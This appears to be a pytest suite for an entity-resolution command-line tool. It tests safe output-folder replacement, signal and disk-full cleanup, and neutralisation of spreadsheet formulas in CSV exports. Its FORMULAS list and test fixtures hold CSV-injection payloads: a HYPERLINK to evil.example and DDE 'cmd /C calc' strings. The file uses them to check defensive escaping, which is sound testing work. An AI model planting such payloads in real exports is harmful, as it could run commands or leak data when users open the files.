"""Nothing lost: `--out` never destroys what is not ours, replacement is atomic, signals and full disks leave no
partial output, stale temporaries are cleaned; exports are safe to open in a spreadsheet.

The CLI runs as a real process (`python -m entity_resolution.cli`), so exit codes, signals and "no traceback"
are what a user sees.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq
import pytest

from entity_resolution.demo.generator import GeneratedPaths
from entity_resolution.export.guard import foreign_run_files, is_run_folder
from entity_resolution.export.tables import spreadsheet_safe

ER = [sys.executable, "-m", "entity_resolution.cli"]


def er(*args: str, cwd: Path | None = None, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*ER, "-q", *args], capture_output=True, text=True, cwd=cwd, timeout=timeout)


def _inputs(data: GeneratedPaths) -> list[str]:
    return ["-a", str(data.accounts), "-d", str(data.devices), "-p", str(data.payments)]


def _digest(folder: Path) -> dict[str, str]:
    """Every file below folder (hidden ones too) with its content hash."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _hidden_siblings(out: Path) -> list[Path]:
    return [p for p in out.parent.iterdir() if p.name.startswith(f".{out.name}.")]


def _bad_input(result: subprocess.CompletedProcess[str], *needles: str) -> None:
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert "--out" in result.stderr
    for needle in needles:
        assert needle in " ".join(result.stderr.split()), result.stderr


@pytest.fixture
def copied_inputs(small_data: GeneratedPaths, tmp_path: Path) -> Path:
    folder = tmp_path / "inputs"
    folder.mkdir()
    for p in (small_data.accounts, small_data.devices, small_data.payments):
        (folder / p.name).write_bytes(p.read_bytes())
    return folder


def _args_in(folder: Path) -> list[str]:
    return ["-a", str(folder / "accounts.parquet"), "-d", str(folder / "devices.parquet"),
            "-p", str(folder / "payments.parquet")]


def test_out_holding_the_inputs_is_refused_even_with_force(copied_inputs: Path) -> None:
    before = _digest(copied_inputs)
    for extra in ([], ["--force"]):
        _bad_input(er("run", *_args_in(copied_inputs), "--out", str(copied_inputs), *extra), "holds input")
        assert _digest(copied_inputs) == before
        _bad_input(er("run", *_args_in(copied_inputs), "--out", str(copied_inputs.parent), *extra), "holds input")
        assert _digest(copied_inputs) == before
    assert not _hidden_siblings(copied_inputs)


def test_a_folder_of_other_files_is_refused_then_replaced_with_force(small_data: GeneratedPaths,
                                                                     tmp_path: Path) -> None:
    out = tmp_path / "mine"
    (out / "sub").mkdir(parents=True)
    (out / "notes.txt").write_text("keep me")
    (out / "sub" / "x.csv").write_text("a,b\n")
    before = _digest(out)
    _bad_input(er("run", *_inputs(small_data), "--out", str(out)), "notes.txt", "--force")
    assert _digest(out) == before and not _hidden_siblings(out)
    result = er("run", *_inputs(small_data), "--out", str(out), "--force")
    assert result.returncode == 0, result.stderr
    assert is_run_folder(out) and not (out / "notes.txt").exists() and not _hidden_siblings(out)


def test_an_existing_file_is_refused_then_replaced_with_force(small_data: GeneratedPaths, tmp_path: Path) -> None:
    out = tmp_path / "report.xlsx"
    out.write_text("a spreadsheet")
    _bad_input(er("run", *_inputs(small_data), "--out", str(out)), "an existing file")
    assert out.read_text() == "a spreadsheet" and not _hidden_siblings(out)
    assert er("run", *_inputs(small_data), "--out", str(out), "--force").returncode == 0
    assert is_run_folder(out) and not _hidden_siblings(out)  # no hidden .report.xlsx.old-* left behind


def test_the_current_and_home_folders_are_never_replaced(small_data: GeneratedPaths, tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    (work / "data.txt").write_text("x")
    _bad_input(er("run", *_inputs(small_data), "--out", ".", "--force", cwd=work), "current folder")
    _bad_input(er("run", *_inputs(small_data), "--out", str(tmp_path), "--force", cwd=work), "current folder")
    _bad_input(er("run", *_inputs(small_data), "--out", str(Path.home()), "--force"), "home folder")
    assert (work / "data.txt").read_text() == "x"


def test_a_run_folder_is_replaced_but_not_with_a_foreign_file_in_it(small_data: GeneratedPaths,
                                                                    tmp_path: Path) -> None:
    out = tmp_path / "run"
    assert er("run", *_inputs(small_data), "--out", str(out)).returncode == 0
    assert foreign_run_files(out) == [], "every file a run writes must be known to export/guard.py"
    first = json.loads((out / "manifest.json").read_text())["started_at"]
    assert er("run", *_inputs(small_data), "--out", str(out)).returncode == 0
    assert json.loads((out / "manifest.json").read_text())["started_at"] != first
    (out / "my-notes.md").write_text("findings")
    _bad_input(er("run", *_inputs(small_data), "--out", str(out)), "my-notes.md")
    assert (out / "my-notes.md").read_text() == "findings" and not _hidden_siblings(out)


def test_unwritable_locations_are_bad_input(small_data: GeneratedPaths, tmp_path: Path) -> None:
    blocker = tmp_path / "afile"
    blocker.write_text("x")
    _bad_input(er("run", *_inputs(small_data), "--out", str(blocker / "sub" / "run")), "is a file, not a folder")
    _bad_input(er("run", *_inputs(small_data), "--out", "/proc/er-run"), "/proc/er-run")
    assert blocker.read_text() == "x"


def _mount_tmpfs(point: Path, options: str) -> None:
    point.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(point)], capture_output=True)
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here (needs root): {done.stderr!r}")


def test_read_only_and_full_disks_leave_nothing_half_written(small_data: GeneratedPaths, tmp_path: Path) -> None:
    ro, full = tmp_path / "ro", tmp_path / "full"
    _mount_tmpfs(ro, "size=1m,ro")
    _mount_tmpfs(full, "size=3m")
    try:
        _bad_input(er("run", *_inputs(small_data), "--out", str(ro / "run")), "Read-only file system")
        result = er("run", *_inputs(small_data), "--out", str(full / "run"))
        assert result.returncode == 1, result.stderr
        assert "Traceback" not in result.stderr and "No space left on device" in result.stderr
        assert len(result.stderr.strip().splitlines()) == 1
        assert list(full.iterdir()) == []  # neither the run folder nor its hidden temporary
    finally:
        subprocess.run(["umount", str(ro)], check=False)
        subprocess.run(["umount", str(full)], check=False)


def test_stale_temporaries_of_dead_runs_are_removed(small_data: GeneratedPaths, tmp_path: Path) -> None:
    out = tmp_path / "run"
    dead = tmp_path / ".run.tmp-run-999999999-20260101T000000000000"  # no such pid
    legacy = tmp_path / ".run.tmp-run-20260101T000000000000"  # left by an older version (no pid in the name)
    live = tmp_path / f".run.tmp-run-{os.getpid()}-20260101T000000000000"  # a run still going: kept
    other = tmp_path / ".other.tmp-run-999999999-20260101T000000000000"  # another --out's: not ours to judge
    for p in (dead, legacy, live, other):
        p.mkdir()
        (p / "er.duckdb").write_bytes(b"x" * 1000)
    assert er("run", *_inputs(small_data), "--out", str(out)).returncode == 0
    assert not dead.exists() and not legacy.exists()
    assert live.exists() and other.exists()


@pytest.mark.parametrize(("sig", "code"), [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
def test_signals_clean_up_and_exit_with_the_shell_code(demo_data: GeneratedPaths, tmp_path: Path,
                                                       sig: signal.Signals, code: int) -> None:
    """Signal a real run at several moments after its temporary appears: one line, the exit code, no temporary,
    and the earlier run folder at --out left exactly as it was."""
    out = tmp_path / "run"
    assert er("run", *_inputs(demo_data), "--out", str(out)).returncode == 0
    before = _digest(out)
    interrupted = 0
    for delay in (0.0, 0.7, 1.5, 2.5):
        proc = subprocess.Popen([*ER, "-q", "run", *_inputs(demo_data), "--out", str(out)],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        deadline = time.monotonic() + 60
        while not any(".tmp-run-" in p.name for p in tmp_path.iterdir()) and time.monotonic() < deadline:
            time.sleep(0.02)
        time.sleep(delay)
        proc.send_signal(sig)
        _, stderr = proc.communicate(timeout=120)
        assert "Traceback" not in stderr
        assert not _hidden_siblings(out), f"temporary left after {sig.name} at +{delay}s"
        if proc.returncode == 0:  # finished before the signal: a complete new run folder
            before = _digest(out)
            continue
        interrupted += 1
        assert proc.returncode == code, stderr
        assert stderr.strip().splitlines() == [stderr.strip()] and f"Interrupted by {sig.name}" in stderr
        assert _digest(out) == before
    assert interrupted >= 2


def test_demo_never_overwrites_input_files_that_are_not_generated(tmp_path: Path) -> None:
    out = tmp_path / "demo"
    (out / "input").mkdir(parents=True)
    (out / "input" / "customers.csv").write_text("id\n1\n")
    (out / "input" / "accounts.csv").write_text("account_id\nreal\n")
    result = er("demo", "--out", str(out), "--size", "1000")
    _bad_input(result, "customers.csv")
    assert (out / "input" / "accounts.csv").read_text() == "account_id\nreal\n"
    assert sorted(p.name for p in (out / "input").iterdir()) == ["accounts.csv", "customers.csv"]


def test_detect_refuses_a_file_a_missing_run_and_a_foreign_folder(small_data: GeneratedPaths,
                                                                    tmp_path: Path) -> None:
    run = tmp_path / "run"
    assert er("run", *_inputs(small_data), "--out", str(run)).returncode == 0
    afile = tmp_path / "exports.txt"
    afile.write_text("x")
    _bad_input(er("detect", "--from", str(run), "--out", str(afile)), "an existing file")
    assert afile.read_text() == "x"

    missing = er("detect", "--from", str(tmp_path / "nope"), "--out", str(tmp_path / "exports"))
    assert missing.returncode == 2 and "Traceback" not in missing.stderr and "no folder at this path" in missing.stderr
    assert not (tmp_path / "exports").exists() and not (tmp_path / ".exports.lock").exists()

    foreign = tmp_path / "docs"
    foreign.mkdir()
    (foreign / "readme.txt").write_text("x")
    _bad_input(er("detect", "--from", str(run), "--out", str(foreign)), "readme.txt")
    assert sorted(p.name for p in foreign.iterdir()) == ["readme.txt"]
    ok = er("detect", "--from", str(run), "--out", str(foreign), "--force")
    assert ok.returncode == 0, ok.stderr
    assert (foreign / "readme.txt").read_text() == "x" and (foreign / "latest").is_symlink()


# Spreadsheet formula injection (OWASP "CSV Injection").
FORMULAS = ['=HYPERLINK("http://evil.example/?x","click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


def test_spreadsheet_safe_neutralises_every_formula_start() -> None:
    table = pa.table({"text": [*FORMULAS, "plain", "a=b", None], "n": list(range(len(FORMULAS) + 3))})
    safe = spreadsheet_safe(table)
    assert safe["text"].to_pylist() == [f"'{v}" for v in FORMULAS] + ["plain", "a=b", None]
    assert safe["n"].to_pylist() == table["n"].to_pylist()


def _hostile(data: GeneratedPaths, folder: Path) -> list[str]:
    """The small data set with formula-like account ids and device ids."""
    folder.mkdir()
    accounts = pq.read_table(data.accounts)
    ids = accounts["account_id"].to_pylist()
    renamed = {old: f"{FORMULAS[i % len(FORMULAS)]}{old}" for i, old in enumerate(ids[:60])}

    def rename(table: pa.Table) -> pa.Table:
        column = [renamed.get(v, v) for v in table["account_id"].to_pylist()]
        return table.set_column(table.column_names.index("account_id"), "account_id", pa.array(column))

    for name, path in (("accounts", data.accounts), ("devices", data.devices), ("payments", data.payments)):
        table = rename(pq.read_table(path))
        if name == "devices":
            dev = pc.binary_join_element_wise("=cmd|' /C calc'!", table["device_id"], "")
            table = table.set_column(table.column_names.index("device_id"), "device_id", dev)
        pq.write_table(table, folder / f"{name}.parquet")
    return _args_in(folder)


def _is_number(cell: str) -> bool:
    """A plain number (a negative match weight) is a value to a spreadsheet, not a formula."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_exports_are_safe_to_open_and_parquet_keeps_raw_values(small_data: GeneratedPaths,
                                                              tmp_path: Path) -> None:
    args = _hostile(small_data, tmp_path / "in")
    run = tmp_path / "run"
    result = er("run", *args, "--out", str(run))
    assert result.returncode == 0, result.stderr
    exports = tmp_path / "exports"
    assert er("detect", "--from", str(run), "--out", str(exports)).returncode == 0
    csvs = [*run.glob("*.csv"), *(exports / "latest").glob("*.csv")]
    assert {"entities.csv", "signals.csv", "hubs.csv", "resolution_hubs.csv", "rings.csv"} <= {p.name for p in csvs}
    risky = "=+-@\t\r＝＋－＠"
    for path in csvs:
        with path.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                bad = [cell for cell in row if cell and cell[0] in risky and not _is_number(cell)]
                assert not bad, f"{path.name}: {bad[:3]}"
    quoted = [row for row in csv.reader((run / "entities.csv").open(newline="", encoding="utf-8"))
              if row[0].startswith("'=HYPERLINK")]
    assert quoted, "the formula-like account ids are in entities.csv, quoted as text"
    raw = pq.read_table(run / "entities.parquet")["account_id"].to_pylist()
    assert any(v.startswith('=HYPERLINK("http://evil.example/') for v in raw)
    hubs = pq.read_table(run / "resolution_hubs.parquet").to_pylist() + pq.read_table(
        exports / "latest" / "hubs.parquet").to_pylist()
    assert any(str(h.get("value", "")).startswith("=cmd|") for h in hubs)


def test_train_never_overwrites_a_file_that_is_not_a_model(small_data: GeneratedPaths, tmp_path: Path) -> None:
    notes = tmp_path / "notes.json"
    notes.write_text('{"my": "notes"}')
    result = er("train", *_inputs(small_data), "--model-out", str(notes))
    assert result.returncode == 2 and "--model-out" in result.stderr and "Traceback" not in result.stderr
    assert notes.read_text() == '{"my": "notes"}'
    folder = er("train", *_inputs(small_data), "--model-out", str(tmp_path))
    assert folder.returncode == 2 and "a folder" in folder.stderr


def test_demo_worlds_rerun_over_their_own_folder(tmp_path: Path) -> None:
    """A demo folder of either world is ours: a second `er demo` replaces it (the world's extra truth files and
    world.json included); an unknown world is bad input."""
    out = tmp_path / "demo"
    for _ in range(2):
        result = er("demo", "--world", "realistic", "--size", "2000", "--out", str(out))
        assert result.returncode == 0, result.stderr
    assert (out / "input" / "world.json").is_file() and is_run_folder(out / "run")
    wrong = er("demo", "--world", "fantasy", "--out", str(tmp_path / "other"))
    assert wrong.returncode == 2 and "--world" in wrong.stderr and not (tmp_path / "other").exists()
